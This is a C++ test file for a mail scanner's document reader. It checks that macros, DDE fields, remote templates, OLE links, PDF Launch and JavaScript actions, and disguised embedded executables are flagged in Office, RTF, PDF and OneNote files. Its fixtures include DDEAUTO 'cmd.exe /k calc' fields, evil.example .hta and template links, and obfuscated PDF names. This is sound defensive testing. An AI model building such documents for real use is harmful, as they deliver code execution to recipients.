#include "common/mail/document_reader.h"

#include <catch2/catch.hpp>

#include "tests/support/archive_maker.h"
#include "tests/support/document_maker.h"

using namespace weir;
using test::biffRecord;
using test::makeCfb;
using test::makeOoxml;
using test::makePdf;
using test::number;
using test::pdfStream;
using test::utf16;
using namespace std::string_literals;
using Texts = std::vector<std::string>;

namespace {

const std::string kProgram = test::programBytes();
const std::string kUrlMoniker = "\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b\xa9\x0b"s;

std::string urlMoniker(const std::string& url) {
    const std::string wide = utf16(url + '\0');
    return kUrlMoniker + number(wide.size(), 4) + wide;
}

std::string relationships(const std::string& type, const std::string& target) {
    return "<?xml version=\"1.0\"?><Relationships "
           "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
           "<Relationship Id=\"rId1\" "
           "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" +
           type + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>";
}

bool targets(const DocumentReading& reading, const std::string& what, const std::string& where) {
    for (const DocumentTarget& target : reading.targets)
        if (target.what == what && target.where == where) return true;
    return false;
}

}  // namespace

// ---- compound files

TEST_CASE("encryption of old Office files is told") {
    const auto word = [](std::uint16_t flags) {
        return makeCfb({{"WordDocument",
                         "\xec\xa5"s + std::string(8, '\0') + number(flags, 2) + std::string(500, '\0')}});
    };
    CHECK(readDocument(word(0)).kind == "ole2");
    CHECK_FALSE(readDocument(word(0)).encrypted);
    CHECK(readDocument(word(0x0100)).encrypted);
    const std::string begin = biffRecord(0x0809, std::string(16, '\0'));
    CHECK_FALSE(readDocument(makeCfb({{"Workbook", begin}})).encrypted);
    CHECK(readDocument(makeCfb({{"Workbook", begin + biffRecord(0x002F, std::string(6, 'k'))}})).encrypted);
    CHECK(readDocument(makeCfb({{"EncryptedPackage", std::string(9'000, 'x')}, {"EncryptionInfo", "x"}}))
              .encrypted);
    const auto slides = [](std::uint32_t token) {
        return makeCfb({{"Current User", number(0, 8) + number(20, 4) + number(token, 4) + number(0, 8)}});
    };
    CHECK_FALSE(readDocument(slides(0xE391C05F)).encrypted);
    CHECK(readDocument(slides(0xF3D1C4DF)).encrypted);
}

TEST_CASE("macros of old Office files are found, whatever their storage is called") {
    CHECK(readDocument(makeCfb({{"Macros/VBA/dir", "x"}})).found == Texts{"macros"});
    CHECK(readDocument(makeCfb({{"_VBA_PROJECT_CUR/VBA/_VBA_PROJECT", "x"}})).found == Texts{"macros"});
    CHECK(readDocument(makeCfb({{"Other/_VBA_PROJECT", "x"}})).found == Texts{"macros"});
    CHECK(readDocument(makeCfb({{"Workbook", biffRecord(0x00D3, "")}})).found == Texts{"macros"});
    CHECK(
        readDocument(makeCfb({{"ObjectPool/", ""}, {"WordDocument", std::string(600, '\0')}})).found.empty());
}

TEST_CASE("macro sheets and commands of old workbooks are found") {
    const auto sheet = [](int kind) {
        return biffRecord(
            0x0085, number(0, 4) + number(0, 1) + number(static_cast<std::uint64_t>(kind), 1) + "\5\0Sheet"s);
    };
    CHECK(readDocument(makeCfb({{"Workbook", sheet(0)}})).found.empty());
    CHECK(readDocument(makeCfb({{"Workbook", sheet(0) + sheet(1)}})).found == Texts{"xlm-macros"});
    const auto book = [](const std::string& path) {
        return biffRecord(0x01AE, number(0, 2) + number(path.size(), 2) + "\0"s + path);
    };
    const DocumentReading dde = readDocument(makeCfb({{"Workbook", book("cmd\3/c calc")}}));
    CHECK(dde.found == Texts{"dde"});
    const DocumentReading other =
        readDocument(makeCfb({{"Workbook", book("\1http://example.com/book.xls")}}));
    CHECK(other.found == Texts{"external-link"});
    CHECK(other.targets.size() == 1);
    CHECK(readDocument(makeCfb({{"Workbook", biffRecord(0x01AE, number(1, 2) + number(0x0401, 2))}}))
              .found.empty());
}

TEST_CASE("an embedded file is told by the names it is shown and unpacked under, and by its type") {
    const std::string bytes =
        makeCfb({{"ObjectPool/_123/\1Ole10Native",
                  test::makeOle10Native("invoice.pdf", "C:\\Temp\\run.exe", kProgram)}});
    const DocumentReading reading = readDocument(bytes);
    CHECK(reading.has("embedded-object"));
    REQUIRE(reading.embedded.size() == 2);
    CHECK(reading.embedded[0].name == "invoice.pdf");
    CHECK(reading.embedded[0].type == "application/x-dosexec");
    CHECK(reading.embedded[0].size == kProgram.size());
    CHECK(reading.embedded[1].name == "run.exe");
    CHECK_FALSE(reading.damaged);
    const DocumentReading cut =
        readDocument(makeCfb({{"\1Ole10Native", test::makeOle10Native("a", "a", kProgram).substr(0, 100)}}));
    CHECK(cut.damaged);
}

TEST_CASE("links and the equation editor are found by what identifies them") {
    const DocumentReading link =
        readDocument(makeCfb({{"ObjectPool/_1/\1Ole", number(0x02000001, 4) + number(1, 4) +
                                                          urlMoniker("http://evil.example/x.hta")}}));
    CHECK(link.has("external-object"));
    CHECK(targets(link, "object", "http://evil.example/x.hta"));
    const std::string equation = "\x02\xce\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"s;
    CHECK(readDocument(makeCfb({{"ObjectPool/_1/", "", equation}})).has("equation-editor"));
}

TEST_CASE("what an Outlook message has attached is told") {
    const DocumentReading reading =
        readDocument(makeCfb({{"__attach_version1.0_#00000000/__substg1.0_3707001F", utf16("run.exe")},
                              {"__attach_version1.0_#00000000/__substg1.0_37010102", kProgram}}));
    CHECK(reading.found == Texts{"embedded-file"});
    REQUIRE(reading.embedded.size() == 2);
    CHECK((reading.embedded[0].name == "run.exe" || reading.embedded[1].name == "run.exe"));
}

TEST_CASE("macros and objects of slides are found inside their stream, packed or not") {
    const auto record = [](std::uint16_t version, std::uint16_t type, const std::string& content) {
        return number(version, 2) + number(type, 2) + number(content.size(), 4) + content;
    };
    const std::string object = makeCfb({{"VBA/dir", "x"}});
    for (const bool packed : {false, true}) {
        const std::string stored = packed ? number(object.size(), 4) + test::zlibbed(object) : object;
        const std::string stream =
            record(0xF, 1000, record(1, 1001, "some atom") + record(packed ? 0x10 : 0, 0x1011, stored));
        const DocumentReading reading = readDocument(makeCfb({{"PowerPoint Document", stream}}));
        CHECK(reading.has("embedded-object"));
        CHECK(reading.has("macros"));
    }
    CHECK(readDocument(makeCfb({{"PowerPoint Document", record(0xF, 1000, record(0, 0x03FF, "12345678"))}}))
              .found == Texts{"macros"});
}

// ---- OOXML and ODF

TEST_CASE("a plain document of each kind has nothing to tell") {
    const DocumentReading word =
        readDocument(makeOoxml({{"word/document.xml", "<w:document><w:t>Hello</w:t></w:document>"},
                                {"word/media/image1.png", "x"},
                                {"docProps/app.xml", "<x/>"}}));
    CHECK(word.kind == "ooxml");
    CHECK(word.found.empty());
    CHECK(word.embedded.empty());
    CHECK_FALSE(word.encrypted);
    CHECK_FALSE(word.damaged);
    CHECK(word.cut.empty());
    CHECK(
        readDocument(makePdf({"<< /Type /Catalog /Pages 2 0 R /OpenAction [2 0 R /Fit] >>"})).found.empty());
    CHECK(readDocument("{\\rtf1\\ansi Hello {\\b World}}").found.empty());
    for (const std::string& other :
         {"hello"s, ""s, kProgram, test::makeZip({{.name = "a.txt", .bytes = "x"}}), "PK"s}) {
        CHECK_FALSE(readDocument(other).isDocument());
        CHECK_FALSE(looksLikeDocument(other));
    }
}

TEST_CASE("macros of OOXML are found by name, content type and relationship") {
    const std::string vba = makeCfb({{"VBA/dir", "x"}});
    CHECK(readDocument(makeOoxml({{"word/vbaProject.bin", vba}})).has("macros"));
    CHECK(readDocument(makeOoxml({{"word/harmless.bin", vba}})).has("macros"));
    CHECK(readDocument(makeOoxml({{"[Content_Types].xml",
                                   "<Types><Override PartName=\"/x\" "
                                   "ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"}}))
              .has("macros"));
    CHECK(readDocument(makeOoxml({{"word/_rels/document.xml.rels",
                                   "<Relationships><Relationship "
                                   "Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' "
                                   "Target='x'/></Relationships>"}}))
              .has("macros"));
    CHECK(readDocument(makeOoxml({{"xl/macrosheets/sheet1.xml", "<x/>"}})).has("xlm-macros"));
    CHECK(readDocument(makeOoxml({{"word/activeX/activeX1.xml", "<x/>"}})).has("activex"));
}

TEST_CASE("references to outside are told by their kind, however the XML is written") {
    const DocumentReading reading = readDocument(makeOoxml({
        {"word/_rels/settings.xml.rels",
         relationships("attachedTemplate", "http://evil.example/t.dotm?a=1&amp;b=2")},
        {"word/_rels/document.xml.rels", relationships("oleObject", "http://evil.example/o.hta")},
        {"word/_rels/header.xml.rels", relationships("image", "https://track.example/p.png")},
        {"word/_rels/footer.xml.rels", relationships("hyperlink", "https://honest.example/")},
        {"word/_rels/frame.xml.rels", relationships("frame", "file:///x")},
    }));
    CHECK(reading.found == Texts{"external-template", "external-object", "external-image", "external-link"});
    CHECK(targets(reading, "template", "http://evil.example/t.dotm?a=1&b=2"));
    CHECK(targets(reading, "object", "http://evil.example/o.hta"));
    CHECK(targets(reading, "image", "https://track.example/p.png"));
    CHECK(targets(reading, "link", "https://honest.example/"));

    const std::string other =
        "<?xml version='1.0'?><!-- <Relationship TargetMode='External'/> --><r:Relationships xmlns:r='x'>"
        "<r:Relationship\n Target = 'htt&#x70;://evil.example/t' TargetMode='External'\n "
        "Type='http://x/attachedTemplate' ></r:Relationship></r:Relationships>";
    for (const std::string& xml : {other, "\xff\xfe"s + utf16(other), utf16(other), "\xef\xbb\xbf" + other}) {
        const DocumentReading written = readDocument(makeOoxml({{"word/_rels/settings.xml.rels", xml}}));
        CHECK(written.found == Texts{"external-template"});
        CHECK(targets(written, "template", "http://evil.example/t"));
    }
}

TEST_CASE("commands in fields are found in one piece and in many") {
    const auto word = [](const std::string& body) {
        return readDocument(
            makeOoxml({{"word/document.xml", "<w:document><w:body>" + body + "</w:body></w:document>"}}));
    };
    CHECK(word("<w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" "
               "</w:instrText>")
              .found == Texts{"dde"});
    CHECK(word("<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAU</w:instrText></"
               "w:r><w:r><w:instrText>TO x</w:instrText>")
              .found == Texts{"dde"});
    CHECK(word("<w:fldSimple w:instr=' DDE \"excel\" \"x\"'/>").found == Texts{"dde"});
    CHECK(word("<w:instrText>INCLUDEPICTURE \"http://evil.example/x\"</w:instrText>").found ==
          Texts{"external-link"});
    CHECK(word("<w:instrText>PAGE</w:instrText><w:t>DDEAUTO is a word</w:t>").found.empty());
    CHECK(readDocument(makeOoxml({{"xl/externalLinks/externalLink1.xml",
                                   "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"}}))
              .found == Texts{"dde"});
}

TEST_CASE("embedded objects of OOXML are looked into") {
    const std::string object =
        makeCfb({{"\1Ole10Native", test::makeOle10Native("run.exe", "run.exe", kProgram)}});
    const DocumentReading reading = readDocument(makeOoxml({{"word/embeddings/oleObject1.bin", object}}));
    CHECK(reading.kind == "ooxml");
    CHECK(reading.found == Texts{"embedded-object"});
    REQUIRE(reading.embedded.size() == 2);
    CHECK(reading.embedded[0].name == "word/embeddings/oleObject1.bin");
    CHECK(reading.embedded[1].name == "run.exe");
    CHECK(reading.embedded[1].type == "application/x-dosexec");

    const std::string inner = makeOoxml({{"xl/vbaProject.bin", "x"}});
    CHECK(readDocument(makeOoxml({{"word/embeddings/book.xlsm", inner}})).has("macros"));
    const DocumentReading file = readDocument(makeOoxml({{"word/run.exe", kProgram}}));
    CHECK(file.found == Texts{"embedded-file"});
    CHECK(file.embedded.at(0).type == "application/x-dosexec");
}

TEST_CASE("documents of ODF are read as those of OOXML") {
    const auto odf = [](std::vector<test::ZipPart> parts, const std::string& manifest = "<manifest/>") {
        parts.insert(
            parts.begin(),
            {.name = "mimetype", .bytes = "application/vnd.oasis.opendocument.text", .deflate = false});
        parts.push_back({.name = "META-INF/manifest.xml", .bytes = manifest});
        return readDocument(test::makeZip(parts));
    };
    CHECK(odf({{.name = "content.xml", .bytes = "<x/>"}}).kind == "odf");
    CHECK(odf({{.name = "content.xml", .bytes = "<x/>"}}).found.empty());
    CHECK(odf({}, "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>").encrypted);
    CHECK(odf({{.name = "Basic/Standard/Module1.xml", .bytes = "<x/>"}}).found == Texts{"macros"});
    CHECK(odf({{.name = "Scripts/python/a.py", .bytes = "x"}}).found == Texts{"macros"});
    const DocumentReading outside =
        odf({{.name = "content.xml",
              .bytes = "<office:body><text:a xlink:href=\"http://a.example/\"/><draw:object "
                       "xlink:href=\"http://evil.example/\"/></office:body>"}});
    CHECK(outside.found == Texts{"external-object"});
    CHECK(targets(outside, "link", "http://a.example/"));
}

// ---- RTF

TEST_CASE("objects in RTF are decoded and looked into, however they are broken up") {
    const std::string package = test::makeOle10Native("run.exe", "run.exe", kProgram).substr(4);
    const std::string honest = test::makeRtfObject("Package", package);
    std::string broken = honest;
    const std::size_t data = broken.find("objdata ") + 8;
    broken.insert(data + 20, "\r\n{\\*\\junk 0123}{\\junk}\t \\par ");
    for (const std::string& rtf : {honest, broken}) {
        const DocumentReading reading = readDocument(rtf);
        CHECK(reading.kind == "rtf");
        CHECK(reading.has("embedded-object"));
        REQUIRE_FALSE(reading.embedded.empty());
        CHECK(reading.embedded[0].name == "run.exe");
        CHECK(reading.embedded[0].type == "application/x-dosexec");
        CHECK_FALSE(reading.damaged);
    }
    const std::string equation = "\x02\xce\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"s;
    CHECK(readDocument(test::makeRtfObject("Anything", makeCfb({{"x/", "", equation}})))
              .has("equation-editor"));
    CHECK(readDocument(test::makeRtfObject("Equation.3", "x")).has("equation-editor"));
    const DocumentReading link = readDocument(
        test::makeRtfObject("OLE2Link", makeCfb({{"\1Ole", number(0x02000001, 4) + number(1, 4) +
                                                               urlMoniker("http://evil.example/a.hta")}})));
    CHECK(link.has("external-object"));
    CHECK(targets(link, "object", "http://evil.example/a.hta"));
    const std::string raw =
        "{\\rt{\\object{\\*\\objdata\\bin" + std::to_string(package.size()) + " " + package + "}}}";
    CHECK(readDocument(raw).isDocument());
}

TEST_CASE("templates, fields and links of RTF are found") {
    const DocumentReading reading = readDocument(
        "{\\rtf1{\\*\\template http://evil.example/t.dotm}{\\field{\\*\\fldinst{ DDE}{AUTO cmd }}}"
        "{\\field{\\*\\fldinst HYPERLINK \"https://a.example/\"}{\\fldrslt x}}}");
    CHECK(reading.found == Texts{"external-template", "dde"});
    CHECK(targets(reading, "template", "http://evil.example/t.dotm"));
    CHECK(targets(reading, "link", "https://a.example/"));
    CHECK(readDocument("{\\rtf1{\\*\\template \\u104?\\'74tp://evil.example}}").has("external-template"));
    CHECK(readDocument("{\\rtf1{\\*\\template C:\\\\Office\\\\Normal.dotm}}").found.empty());
    CHECK(readDocument("{\\rtf1 never closed").damaged);
}

// ---- PDF

TEST_CASE("actions of a PDF are found in any place and spelling") {
    CHECK(readDocument(makePdf({"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"})).found ==
          Texts{"open-action", "javascript"});
    CHECK(readDocument(makePdf({"<</OpenAction 5 0 R>>"})).found == Texts{"open-action"});
    CHECK(readDocument(makePdf({"<</Type/Page/AA<</O 5 0 R>>>>"})).found == Texts{"additional-actions"});
    const DocumentReading escaped = readDocument(makePdf({"<< /S /J#61vaScrip#74 /#4a#53 7 0 R >>"}));
    CHECK(escaped.found == Texts{"javascript", "escaped-names"});
    const DocumentReading launch =
        readDocument(makePdf({"<< /S /Launch /F (cmd.exe) >>", "<</S/Launch/Win<</F(a\\\\b.exe)/P(x)>>>>"}));
    CHECK(launch.found == Texts{"launch"});
    CHECK(targets(launch, "file", "cmd.exe"));
    CHECK(targets(launch, "file", "a\\b.exe"));
    CHECK(readDocument(makePdf({"<</S/SubmitForm/F(http://evil.example/)>>"})).has("submit-form"));
    CHECK(readDocument(makePdf({"<</AcroForm<</XFA 5 0 R>>>>"})).has("xfa"));
    CHECK(readDocument(makePdf({"<</Subtype/RichMedia>>"})).has("rich-media"));
    CHECK(readDocument(makePdf({"<</S/GoToE>>"})).has("go-to-remote"));
    CHECK(readDocument(
              makePdf({"% /JavaScript in a comment\n<< /Title (/JavaScript) >>", "<</Font<</AA1 3 0 R>>>>"}))
              .found.empty());
    CHECK(readDocument(std::string(900, ' ') + makePdf({"<</S/Launch>>"})).found == Texts{"launch"});
}

TEST_CASE("URLs of a PDF are told, written as they may be") {
    const DocumentReading reading = readDocument(makePdf(
        {"<< /A << /S /URI /URI (https://a.example/\\(x\\)\\050) >> >>",
         "<</URI<68747470733a2f2f622e6578616d706c652f>>>", "<</URI(\xfe\xff\0h\0t\0t\0p\0:\0/\0/\0c)>>"s}));
    CHECK(targets(reading, "link", "https://a.example/(x)("));
    CHECK(targets(reading, "link", "https://b.example/"));
    CHECK(targets(reading, "link", "http://c"));
    CHECK(reading.found.empty());
}

TEST_CASE("objects in object streams are read through every filter we know") {
    const std::string objects =
        "5 0 6 40 << /S /JavaScript /JS (x) >>            << /URI (http://x.example/) >>";
    const std::string packed = test::zlibbed(objects);
    const auto pdf = [](const std::string& filter, const std::string& content) {
        return makePdf({pdfStream("/Type /ObjStm /N 2 /First 9 /Filter " + filter, content)});
    };
    for (const std::string& bytes : {pdf("/FlateDecode", packed), pdf("[/Fl]", packed),
                                     pdf("[ /ASCIIHexDecode /FlateDecode ]", test::toHexText(packed) + ">"),
                                     makePdf({pdfStream("/Type/ObjStm/N 2/First 9", objects)})}) {
        const DocumentReading reading = readDocument(bytes);
        CHECK(reading.found == Texts{"javascript"});
        CHECK(targets(reading, "link", "http://x.example/"));
        CHECK_FALSE(reading.damaged);
    }
    const DocumentReading unknown = readDocument(pdf("/LZWDecode", "x"));
    CHECK(unknown.damaged);
    CHECK(unknown.cut == Texts{"filter LZWDecode"});
    CHECK(readDocument(pdf("/FlateDecode", "not packed")).damaged);
    // Base 85 of "<</S/Launch>>", and PNG rows that each add what is above.
    CHECK(readDocument(makePdf({pdfStream("/Type/ObjStm/Filter/ASCII85Decode", "4?G<Q9POA&AU4sC4?G~>")}))
              .isDocument());
    std::string rows;
    const std::string plain = "<</S/Launch   >>";
    for (std::size_t i = 0; i < plain.size(); i += 4) {
        rows += '\2';
        for (std::size_t j = i; j < i + 4; ++j) rows += static_cast<char>(plain[j] - (i ? plain[j - 4] : 0));
    }
    CHECK(readDocument(
              makePdf({pdfStream("/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>",
                                 test::zlibbed(rows))}))
              .has("launch"));
}

TEST_CASE("objects that hide in streams, behind wrong lengths or without an end are found") {
    const std::string hidden = "9 0 obj\n<< /S /Launch >>\nendobj";
    CHECK(readDocument(makePdf({pdfStream("", "x\n" + hidden + "\nx")})).has("launch"));
    CHECK(readDocument(makePdf({"<< /Length 2 >>\nstream\nab\nendstream\nendobj\n" + hidden})).has("launch"));
    CHECK(readDocument(makePdf({"<< /Length 500 >>\nstream\nab\nendstream\nendobj\n" + hidden +
                                std::string(500, ' ') + "endstream"}))
              .has("launch"));
    CHECK(readDocument("%PDF-1.4\n1 0 obj\n<< /A << /B [ << /C" + hidden).has("launch"));
}

TEST_CASE("files inside a PDF are told by name and type, and documents among them read") {
    const std::string office =
        makeOoxml({{"word/vbaProject.bin", "x"}, {"word/media/a.png", test::noise(200'000)}});
    const DocumentReading reading = readDocument(
        makePdf({"<< /Type /Filespec /F (a.exe) /UF (\xfe\xff\0r\0u\0n\0.\0e\0x\0e) /EF << /F 3 0 R >> >>"s,
                 pdfStream("/Type /EmbeddedFile /Filter /FlateDecode", test::zlibbed(kProgram)),
                 pdfStream("/Type /EmbeddedFile", office)}));
    CHECK(reading.has("embedded-file"));
    CHECK(reading.has("macros"));
    Texts names, types;
    for (const EmbeddedObject& object : reading.embedded) {
        names.push_back(object.name);
        types.push_back(object.type);
    }
    CHECK(std::count(names.begin(), names.end(), "a.exe") == 1);
    CHECK(std::count(names.begin(), names.end(), "run.exe") == 1);
    CHECK(std::count(types.begin(), types.end(), "application/x-dosexec") == 1);
}

TEST_CASE("an encrypted PDF is told, and its strings are not taken for URLs") {
    const DocumentReading reading =
        readDocument(makePdf({"<</URI(\x13\x88garbage)>>", "<</Type/XRef/Encrypt 7 0 R>>"}));
    CHECK(reading.encrypted);
    CHECK(reading.targets.empty());
    CHECK_FALSE(readDocument(makePdf({"<</Title(Encrypt)>>"})).encrypted);
}

// ---- OneNote

TEST_CASE("files in a OneNote section are told, pictures apart") {
    const std::string section =
        "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"s + std::string(1000, '\0');
    const std::string mark = "\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"s;
    const auto file = [&](const std::string& content) {
        return mark + number(content.size(), 8) + number(0, 12) + content;
    };
    const DocumentReading reading = readDocument(section + file(kProgram));
    CHECK(reading.kind == "onenote");
    CHECK(reading.found == Texts{"embedded-file"});
    CHECK(reading.embedded.at(0).type == "application/x-dosexec");
    const std::string png = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x8\2\0\0\0"s;
    CHECK(readDocument(section + file(png)).found.empty());
    CHECK(readDocument(section + mark + number(1'000'000, 8) + number(0, 12) + "x").damaged);
}

// ---- limits

TEST_CASE("each limit of a document is named, and what was read before it stays") {
    const std::string zeros(3u << 20, '\0');
    DocumentLimits limits;
    limits.unpackedBytes = 1u << 20;
    const DocumentReading unpacked = readDocument(
        makePdf({"<</S/Launch>>", pdfStream("/Type/ObjStm/Filter/FlateDecode", test::zlibbed(zeros))}),
        limits);
    CHECK(unpacked.cut == Texts{"unpacked over 1048576 bytes"});
    CHECK(unpacked.has("launch"));
    CHECK(unpacked.unpacked < 2u << 20);

    limits = {};
    limits.heldBytes = 100'000;
    CHECK(readDocument(makePdf({pdfStream("/Type/ObjStm/Filter/FlateDecode", test::zlibbed(zeros))}), limits)
              .cut == Texts{"streams over 100000 bytes"});
    CHECK(readDocument(makeCfb({{"Workbook", zeros}}), limits).cut == Texts{"streams over 100000 bytes"});
    CHECK(readDocument(makeOoxml({{"word/document.xml", zeros}}), limits).cut ==
          Texts{"streams over 100000 bytes"});

    limits = {};
    limits.parts = 3;
    CHECK(readDocument(makeOoxml({{"a.xml", "x"}, {"b.xml", "x"}, {"c.xml", "x"}}), limits).cut ==
          Texts{"parts over 3"});
    CHECK(readDocument(makeCfb({{"a", "x"}, {"b", "x"}, {"c", "x"}}), limits).cut == Texts{"parts over 3"});

    limits = {};
    limits.embedded = 2;
    const DocumentReading embedded =
        readDocument(makeOoxml({{"a.exe", "x"}, {"b.exe", "x"}, {"c.exe", "x"}}), limits);
    CHECK(embedded.cut == Texts{"embedded objects over 2"});
    CHECK(embedded.embedded.size() == 2);

    limits = {};
    limits.targets = 2;
    limits.textBytes = 8;
    const DocumentReading targets =
        readDocument(makePdf({"<</URI(one)>>", "<</URI(http://long.example/)>>", "<</URI(three)>>"}), limits);
    CHECK(targets.cut == Texts{"texts over 8 bytes", "targets over 2"});
    CHECK(targets.targets.at(1).where == "http://l");

    limits = {};
    limits.time = std::chrono::milliseconds(0);
    CHECK(readDocument(makePdf({"<</S/Launch>>"}), limits).cut == Texts{"time over 0 ms"});

    std::string nested = makeOoxml({{"word/vbaProject.bin", "x"}});
    for (int i = 0; i < 6; ++i) nested = makeOoxml({{"word/embeddings/inner.docx", nested}});
    const DocumentReading depth = readDocument(nested);
    CHECK(depth.cut == Texts{"depth over 4"});
    CHECK_FALSE(depth.has("macros"));
    limits = {};
    limits.depth = 7;
    CHECK(readDocument(nested, limits).has("macros"));
    limits.documents = 3;
    CHECK(readDocument(nested, limits).cut == Texts{"documents over 3"});
}
